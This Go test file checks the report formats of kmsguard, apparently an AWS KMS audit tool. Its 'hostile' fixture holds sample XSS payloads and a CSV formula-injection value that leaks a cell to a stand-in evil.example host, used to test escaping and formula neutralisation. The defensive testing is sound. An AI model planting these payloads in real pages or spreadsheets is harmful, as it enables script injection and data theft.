package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/kmsguard/kmsguard/functions/guardrail"
	"github.com/kmsguard/kmsguard/functions/sweep"
	"github.com/kmsguard/kmsguard/internal/report"
)

const (
	acctA = "111122223333"
	acctB = "444455556666"
	keyA  = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
	keyB  = "arn:aws:kms:us-east-1:111122223333:key/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b"
	keyC  = "arn:aws:kms:eu-west-1:444455556666:key/9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d"
	logsA = "arn:aws:kms:eu-west-1:111122223333:key/5678efgh-12ab-34cd-56ef-1234567890ab"
	keyD  = "arn:aws:kms:eu-west-1:111122223333:key/2b3c4d5e-6f70-4a81-92a3-b4c5d6e7f809"
)

// sample is an audit of two accounts in two Regions with a finding of
// every guardrail that sweeps, written as the sweep reports them; the
// advice is the guardrails' "What you can do" for each situation.
func sample() report.Audit {
	start := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	t := func(a, r string) sweep.Target { return sweep.Target{Account: a, Region: r} }
	return report.Audit{
		Report: &sweep.Report{
			Started: start, Finished: start.Add(47 * time.Second),
			Targets: []sweep.Target{t(acctA, "eu-west-1"), t(acctA, "us-east-1"), t(acctB, "eu-west-1"), t(acctB, "us-east-1")},
			Keys:    214, Groups: 1307,
			Findings: []sweep.Finding{
				{Target: t(acctA, "eu-west-1"), Guardrail: "key-deletion", Resource: "alias/payments", ARN: keyA, Severity: guardrail.SeverityCritical, Action: "none", Mode: guardrail.ModeAlert,
					Reason: "the key is pending deletion and the guardrail runs in alert mode for this account, so kmsguard did not cancel it",
					Remedy: []sweep.Step{{Text: "To cancel the deletion and re-enable the key yourself:", Commands: []string{
						"aws kms cancel-key-deletion --key-id " + keyA + " --region eu-west-1", "aws kms enable-key --key-id " + keyA + " --region eu-west-1"}}}},
				{Target: t(acctB, "eu-west-1"), Guardrail: "key-policy", Resource: "alias/shared-reports", ARN: keyC, Severity: guardrail.SeverityCritical, Action: "none", Mode: guardrail.ModeAlert,
					Reason: "the key policy has PUBLIC, BROAD-ADMIN findings and the guardrail runs in alert mode for this account, so kmsguard did not change it", Findings: []string{"PUBLIC", "BROAD-ADMIN"},
					Remedy: []sweep.Step{
						{Text: "Read the policy in place:", Commands: []string{"aws kms get-key-policy --policy-name default --output text --query Policy --key-id " + keyC + " --region eu-west-1"}},
						{Text: "To fix it, edit that policy and write it back:", Commands: []string{"aws kms put-key-policy --policy-name default --policy file://policy.json --key-id " + keyC + " --region eu-west-1"}},
						{Text: "To exempt this key from the guardrail:", Commands: []string{"aws kms tag-resource --key-id " + keyC + " --region eu-west-1 --tags TagKey=kmsguard:allow-policy,TagValue=true"}}}},
				{Target: t(acctA, "us-east-1"), Guardrail: "key-rotation", Resource: "alias/orders", ARN: keyB, Severity: guardrail.SeverityHigh, Action: "enable-rotation", Mode: guardrail.ModeRemediate,
					Reason: "automatic rotation is off",
					Remedy: []sweep.Step{{Text: "If rotation must stay off for this key, exempt it, then disable rotation:", Commands: []string{
						"aws kms tag-resource --key-id " + keyB + " --region us-east-1 --tags TagKey=kmsguard:skip-rotation,TagValue=true", "aws kms disable-key-rotation --key-id " + keyB + " --region us-east-1"}}}},
				{Target: t(acctB, "us-east-1"), Guardrail: "key-rotation", Resource: "alias/legacy", Severity: guardrail.SeverityHigh, Action: "none", Mode: guardrail.ModeAlert,
					Reason: "kmsguard could not read the key or its rotation status, so it could not check it", Error: "operation error KMS: GetKeyRotationStatus, https response error StatusCode: 400, AccessDeniedException",
					Remedy: []sweep.Step{{Text: "Nothing to do about rotation until the key can be read: check that the key named in the event still exists in account 444455556666, Region us-east-1."}}},
				{Target: t(acctA, "eu-west-1"), Guardrail: "log-encryption", Resource: "/app/payments/api", ARN: "arn:aws:logs:eu-west-1:111122223333:log-group:/app/payments/api", Severity: guardrail.SeverityWarning, Action: "none", Mode: guardrail.ModeAlert,
					Reason: "the log group is not encrypted with a customer managed key and the guardrail runs in alert mode for this account, so kmsguard did not change it",
					Remedy: []sweep.Step{{Text: "To encrypt it yourself:", Commands: []string{"aws logs associate-kms-key --log-group-name /app/payments/api --region eu-west-1 --kms-key-id " + logsA}}}},
				{Target: t(acctA, "eu-west-1"), Guardrail: "key-deletion", Resource: "alias/retired-batch", ARN: keyD, Severity: guardrail.SeverityInfo, Action: "none", Mode: guardrail.ModeAlert,
					Reason: "the key carries the exemption tag kmsguard:allow-deletion=true, so its deletion is allowed",
					Remedy: []sweep.Step{{Text: "To stop the deletion anyway:", Commands: []string{"aws kms cancel-key-deletion --key-id " + keyD + " --region eu-west-1", "aws kms enable-key --key-id " + keyD + " --region eu-west-1"}}}},
			},
			Orphans:    []sweep.OrphanKey{{Target: t(acctA, "eu-west-1"), KeyID: "7d3c2b1a-0f9e-4d8c-b7a6-5f4e3d2c1b0a", ARN: "arn:aws:kms:eu-west-1:111122223333:key/7d3c2b1a-0f9e-4d8c-b7a6-5f4e3d2c1b0a", Created: start.AddDate(0, -7, 0)}},
			Errors:     []string{"444455556666/us-east-1: list aliases: operation error KMS: ListAliases, AccessDeniedException"},
			NotEnabled: []sweep.Target{t(acctB, "ap-east-1")},
		},
		Fix:        false,
		Drift:      []string{`modes differ: file {"default":"remediate"}, parameter {"default":"alert"}`},
		LastUse:    map[string]string{"7d3c2b1a-0f9e-4d8c-b7a6-5f4e3d2c1b0a": "last used 2026-05-02 (Decrypt by role/batch-loader)"},
		Guardrails: []string{"key-deletion", "key-rotation", "key-policy", "log-encryption"},
	}
}

// hostile adds a finding whose every string is markup, a formula or a
// quote, as a resource name from an audited account can be.
func hostile(a report.Audit) report.Audit {
	r := *a.Report
	r.Findings = append(append([]sweep.Finding(nil), r.Findings...), sweep.Finding{
		Target: sweep.Target{Account: acctA, Region: "eu-west-1"}, Guardrail: "log-encryption",
		Resource: `<script>alert(1)</script>`, ARN: `"><img src=x onerror=alert(2)>`,
		Severity: guardrail.SeverityWarning, Action: "none", Mode: guardrail.ModeAlert,
		Reason:   `=HYPERLINK("http://evil.example/"&A1,"click") </dd><script>alert(3)</script>`,
		Findings: []string{`<b onmouseover=alert(4)>x</b>`},
		Error:    `</code></pre><script>alert(5)</script>`,
		Remedy:   []sweep.Step{{Text: `<a href="javascript:alert(6)">run me</a>`, Commands: []string{`aws logs associate-kms-key --log-group-name '<script>alert(7)</script>'`}}},
	})
	r.Errors = append(append([]string(nil), r.Errors...), `<iframe src="https://evil.example/"></iframe>`)
	a.Report = &r
	a.Drift = append(append([]string(nil), a.Drift...), `<style>body{display:none}</style>`)
	return a
}

func render(t *testing.T, format string, a report.Audit) string {
	t.Helper()
	var b bytes.Buffer
	if err := report.Write(&b, format, a, report.Options{Version: "test"}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestWrite_UnknownFormat(t *testing.T) {
	if err := report.Write(&bytes.Buffer{}, "xml", sample(), report.Options{}); err == nil {
		t.Error("xml: no error")
	}
}

func TestText(t *testing.T) {
	out := render(t, "text", sample())
	for _, want := range []string{
		"SEVERITY  GUARDRAIL", "CRITICAL  key-deletion    111122223333  eu-west-1  alias/payments",
		"ERROR: operation error KMS: GetKeyRotationStatus",
		"Orphaned keys (Enabled, no alias; often left by failed deployments): 1",
		"last used 2026-05-02", "Drift between the configuration file and the hub parameter: modes differ",
		"Not checked: 444455556666/us-east-1: list aliases",
		"6 findings in 214 keys and 1307 log groups across 4 account-Regions (read-only)",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text lacks %q:\n%s", want, out)
		}
	}
}

func TestJSON(t *testing.T) {
	var got struct {
		Findings []struct {
			Guardrail, Resource, ARN string
			Remedy                   []sweep.Step `json:"what_you_can_do"`
		}
		Fix        bool
		Drift      []string
		LastUse    map[string]string `json:"orphan_last_use"`
		Guardrails []string
		Keys       int `json:"keys_checked"`
	}
	if err := json.Unmarshal([]byte(render(t, "json", sample())), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Findings) != 6 || got.Keys != 214 || got.Fix || len(got.Drift) != 1 || len(got.LastUse) != 1 || len(got.Guardrails) != 4 {
		t.Fatalf("%+v", got)
	}
	if f := got.Findings[0]; f.ARN != keyA || len(f.Remedy) != 1 || len(f.Remedy[0].Commands) != 2 {
		t.Errorf("first finding %+v", f)
	}
}

func TestCSV(t *testing.T) {
	a := hostile(sample())
	rows, err := csv.NewReader(strings.NewReader(render(t, "csv", a))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != "account,region,guardrail,resource,arn,severity,mode,action,reason,findings,error,what_you_can_do" {
		t.Errorf("header %q", rows[0])
	}
	if len(rows) != 1+len(a.Findings) {
		t.Fatalf("%d rows for %d findings", len(rows), len(a.Findings))
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	policy := rows[2]
	if policy[col["guardrail"]] != "key-policy" || policy[col["findings"]] != "PUBLIC; BROAD-ADMIN" || policy[col["severity"]] != "CRITICAL" || policy[col["mode"]] != "alert" {
		t.Errorf("key-policy row %q", policy)
	}
	if fix := policy[col["what_you_can_do"]]; !strings.Contains(fix, "Read the policy in place:\n    aws kms get-key-policy --policy-name default") ||
		!strings.Contains(fix, "To exempt this key from the guardrail:\n    aws kms tag-resource --key-id "+keyC) {
		t.Errorf("key-policy what_you_can_do %q", fix)
	}
	if e := rows[4][col["error"]]; !strings.Contains(e, "AccessDeniedException") {
		t.Errorf("error column %q", e)
	}
	// A formula is text in a spreadsheet.
	last := rows[len(rows)-1]
	if r := last[col["reason"]]; !strings.HasPrefix(r, `'=HYPERLINK(`) {
		t.Errorf("formula not neutralised: %q", r)
	}
	if r := last[col["resource"]]; r != `<script>alert(1)</script>` {
		t.Errorf("resource %q", r)
	}
}

func TestOCSF_SeverityMapping(t *testing.T) {
	for sev, want := range map[guardrail.Severity]int{guardrail.SeverityInfo: 1, guardrail.SeverityWarning: 3, guardrail.SeverityHigh: 4, guardrail.SeverityCritical: 5, "": 0} {
		if got, _ := report.OCSFSeverityID(sev); got != want {
			t.Errorf("%q: severity_id %d, want %d", sev, got, want)
		}
	}
}

// Every event carries the attributes OCSF 1.6.0 requires of a Compliance
// Finding (base event, finding, compliance_finding, the cloud profile and
// the objects used), with the values the schema defines, and the ones
// recommended that kmsguard knows.
func TestOCSF_RequiredAttributes(t *testing.T) {
	a := sample()
	var events []map[string]any
	if err := json.Unmarshal([]byte(render(t, "ocsf", a)), &events); err != nil {
		t.Fatal(err)
	}
	if len(events) != len(a.Findings) {
		t.Fatalf("%d events for %d findings", len(events), len(a.Findings))
	}
	get := func(e map[string]any, path string) any {
		var v any = e
		for _, k := range strings.Split(path, ".") {
			switch x := v.(type) {
			case map[string]any:
				v = x[k]
			case []any:
				if len(x) == 0 {
					return nil
				}
				v = x[0].(map[string]any)[k]
			default:
				return nil
			}
		}
		return v
	}
	required := []string{
		// base_event
		"activity_id", "category_uid", "class_uid", "type_uid", "severity_id", "time", "metadata",
		"metadata.version", "metadata.product", "metadata.product.name",
		// finding, compliance_finding
		"finding_info", "finding_info.uid", "compliance",
		// the cloud profile
		"cloud", "cloud.provider",
		// recommended, known to kmsguard
		"message", "status_id", "finding_info.title", "finding_info.analytic.type_id", "compliance.status", "compliance.status_id",
		"compliance.standards", "compliance.control", "cloud.region", "cloud.account.uid", "resources", "resources.uid", "resources.type",
		"metadata.product.vendor_name", "metadata.product.version", "remediation.desc",
	}
	uids := map[string]bool{}
	for i, e := range events {
		f := a.Findings[i]
		for _, p := range required {
			if v := get(e, p); v == nil || v == "" {
				t.Errorf("event %d (%s %s): %s missing", i, f.Guardrail, f.Resource, p)
			}
		}
		num := func(p string) int { n, _ := get(e, p).(float64); return int(n) }
		if num("category_uid") != 2 || num("class_uid") != 2003 || num("activity_id") != 1 || num("type_uid") != num("class_uid")*100+num("activity_id") {
			t.Errorf("event %d classification: %v %v %v %v", i, e["category_uid"], e["class_uid"], e["activity_id"], e["type_uid"])
		}
		if want, _ := report.OCSFSeverityID(f.Severity); num("severity_id") != want {
			t.Errorf("event %d severity_id %d for %s", i, num("severity_id"), f.Severity)
		}
		if int64(num("time")) != a.Finished.UnixMilli() {
			t.Errorf("event %d time %v, want the audit's end in ms", i, e["time"])
		}
		if get(e, "metadata.version") != report.OCSFVersion || get(e, "metadata.product.name") != "kmsguard" || get(e, "cloud.provider") != "AWS" ||
			get(e, "cloud.account.uid") != f.Account || get(e, "cloud.region") != f.Region {
			t.Errorf("event %d metadata or cloud: %v %v", i, e["metadata"], e["cloud"])
		}
		wantStatus := "Fail"
		if f.Error != "" {
			wantStatus = "Warning"
		}
		if get(e, "compliance.status") != wantStatus || get(e, "compliance.control") != f.Guardrail {
			t.Errorf("event %d compliance %v", i, e["compliance"])
		}
		if report.Fixed(f) != (get(e, "status") == "Resolved") {
			t.Errorf("event %d status %v for action %s", i, e["status"], f.Action)
		}
		uid := get(e, "finding_info.uid").(string)
		if uids[uid] {
			t.Errorf("event %d: finding uid %s used twice", i, uid)
		}
		uids[uid] = true
		if f.ARN != "" && get(e, "resources.uid") != f.ARN {
			t.Errorf("event %d resource uid %v", i, get(e, "resources.uid"))
		}
		if !strings.Contains(get(e, "remediation.desc").(string), report.RemedyText(f.Remedy)) {
			t.Errorf("event %d remediation %v", i, e["remediation"])
		}
	}
	if got := get(events[0], "resources.type"); got != "AWS::KMS::Key" {
		t.Errorf("key resource type %v", got)
	}
	if got := get(events[4], "resources.type"); got != "AWS::Logs::LogGroup" {
		t.Errorf("log group resource type %v", got)
	}
	// The uid is the same in every audit: it names the guardrail, account,
	// Region and resource, not the run.
	later := sample()
	later.Finished = later.Finished.Add(24 * time.Hour)
	if report.FindingUID(later.Findings[0]) != get(events[0], "finding_info.uid") {
		t.Error("the finding uid changed between audits")
	}
}

func TestHTML_Content(t *testing.T) {
	out := render(t, "html", sample())
	for _, want := range []string{
		"<!DOCTYPE html>", "<title>kmsguard audit 2026-11-30 09:00:47 UTC: 6 findings</title>",
		"<caption>Per account</caption>", "<caption>Per Region</caption>", "<caption>Per guardrail</caption>",
		"<td>111122223333</td>", "<td>us-east-1</td>", "Cancels scheduled deletion of customer managed KMS keys",
		`<span class="badge critical">CRITICAL</span>`, `<span class="badge fixed">FIXED</span>`,
		"<pre><code>aws kms cancel-key-deletion --key-id " + keyA + " --region eu-west-1\naws kms enable-key --key-id " + keyA + " --region eu-west-1</code></pre>",
		"kmsguard remediated it: enable-rotation", "AccessDeniedException", "7d3c2b1a-0f9e-4d8c-b7a6-5f4e3d2c1b0a", "last used 2026-05-02",
		"444455556666 ap-east-1", "modes differ: file {&#34;default&#34;:&#34;remediate&#34;}", "Written by kmsguard test",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	// Self-contained: no script, no stylesheet or image fetched.
	for _, never := range []string{"<script", "<link", "<img", "<iframe", "src=", "@import", "url("} {
		if strings.Contains(out, never) {
			t.Errorf("html contains %q", never)
		}
	}
}

// Every value from an audited account is escaped: nothing of a hostile
// finding becomes markup.
func TestHTML_EscapesHostileValues(t *testing.T) {
	out := render(t, "html", hostile(sample()))
	for _, never := range []string{"<script", "<img", "<iframe", "<b ", "<a href", "<style>body", "</dd><script"} {
		if strings.Contains(out, never) {
			t.Errorf("html contains %q unescaped", never)
		}
	}
	for _, want := range []string{
		"&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;", "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(5)&lt;/script&gt;",
		"&lt;a href=&#34;javascript:alert(6)&#34;&gt;run me&lt;/a&gt;", "&lt;iframe src=&#34;https://evil.example/&#34;&gt;&lt;/iframe&gt;",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("html lacks the escaped %q", want)
		}
	}
}
